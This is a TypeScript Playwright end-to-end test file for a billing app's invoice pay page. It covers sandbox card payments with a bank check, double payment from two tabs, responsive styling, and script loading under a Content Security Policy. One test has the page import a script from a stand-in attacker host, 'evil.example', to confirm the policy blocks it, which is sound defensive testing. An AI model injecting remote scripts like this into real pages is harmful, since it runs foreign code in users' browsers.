import type { Browser, Page } from 'playwright-core';
import { createStripe } from '../../platform/stripe';
import { freePort } from '../../scripts/stack/ports';
import { startApi, type Api } from '../support/api';
import { describeInBrowser, openPage, startBrowser } from '../support/browser';
import { planCalled } from '../support/customers';
import { createWorld, quietRuntime, type World } from '../support/world';

let world: World;
let api: Api;
let browser: Browser;

/** The link of an invoice over 10.00 USD that its customer pays by hand. */
async function invoiced(): Promise<string> {
  const { access } = await api.signUp();
  const { id: plan } = await planCalled(world, 'basic_monthly');
  await api.post('/api/billing/subscriptions/', { plan }, access);
  const { body } = await api.get('/api/v1/invoices', access);
  return String(body.data[0].hosted_url);
}

/** Fills in the sandbox's card page and sends it. */
async function payBy(page: Page, number: string): Promise<void> {
  await page.locator('#number').fill(number);
  await page.locator('#expiry').fill('12/34');
  await page.locator('#cvc').fill('123');
  await page.locator('button').first().click();
}

const payButton = (page: Page) => page.getByRole('button', { name: 'Pay $10.00' });

describeInBrowser('the pay page', () => {
  beforeAll(async () => {
    quietRuntime();
    const port = await freePort();
    world = await createWorld({ settings: { PUBLIC_URL: `http://127.0.0.1:${port}` } });
    api = await startApi(world, port);
    browser = await startBrowser();
  });
  afterAll(async () => {
    await browser.close();
    await api.close();
    await world.close();
  });

  it('takes a card, sends the customer to their bank and back, and says that it is paid', async () => {
    const { page, complaints } = await openPage(browser);
    await page.goto(await invoiced());
    await payButton(page).click();
    await payBy(page, '4000000000003220');
    await page.getByText('Is this you?').waitFor();
    await page.locator('button[value=yes]').click();
    await page.getByText('Thank you.').waitFor();
    const { origin, search } = new URL(page.url());
    // Nothing of the payment stays in the address.
    expect([origin, search, complaints]).toEqual([api.url, '', []]);
  });

  it('in two tabs, with two cards, is paid once', async () => {
    const url = await invoiced();
    const [{ page: first }, { page: second }] = [await openPage(browser), await openPage(browser)];
    for (const page of [first, second]) {
      await page.goto(url);
      await payButton(page).click();
      await page.locator('#number').waitFor();
    }
    const before = world.sandbox.control.books()['usd']?.charged ?? 0;
    await payBy(first, '4242424242424242');
    await first.getByText('Thank you.').waitFor();
    await payBy(second, '5555555555554444');
    await second.getByText('is paid').first().waitFor();
    expect((world.sandbox.control.books()['usd']?.charged ?? 0) - before).toBe(1000);
  });

  it.each([320, 390, 1280])(
    '%i pixels wide fits, light and dark, with its style',
    async (width) => {
      const viewport = { width, height: 800 };
      const { page, complaints } = await openPage(browser, { viewport, colorScheme: 'light' });
      await page.goto(await invoiced());
      await payButton(page).waitFor();
      const overflow = await page.evaluate('document.documentElement.scrollWidth');
      expect(overflow).toBeLessThanOrEqual(width);
      const paper = () => page.evaluate('getComputedStyle(document.body).backgroundColor');
      const light = await paper();
      await page.emulateMedia({ colorScheme: 'dark' });
      expect([light, await paper()]).toEqual(['rgb(242, 245, 243)', 'rgb(15, 21, 19)']);
      const corners = "getComputedStyle(document.querySelector('button')).borderRadius";
      expect(await page.evaluate(corners)).toBe('10px');
      expect(complaints).toEqual([]);
    },
  );

  it('with a real key asks for Stripe’s script and nothing else, and tells of its absence', async () => {
    const { STRIPE_API_URL: _sandbox, ...config } = world.config;
    const settings = { ...config, STRIPE_PUBLISHABLE_KEY: 'pk_test_123' };
    const real = await startApi({ ...world, config: settings }, 0, createStripe(world.config));
    const { page, complaints } = await openPage(browser);
    await page.route('https://js.stripe.com/**', (route) => route.abort());
    await page.goto(new URL(new URL(await invoiced()).pathname, real.url).href);
    const sources = '[...document.scripts].map(({ src }) => new URL(src).origin)';
    expect(await page.evaluate(sources)).toEqual(['https://js.stripe.com', real.url]);
    await page.getByText('The payment form could not be loaded').waitFor();
    complaints.length = 0;
    await page.evaluate("import('https://evil.example/x.js').catch(() => undefined)");
    expect(complaints.join()).toMatch(/Content Security Policy/);
    await real.close();
  });
});
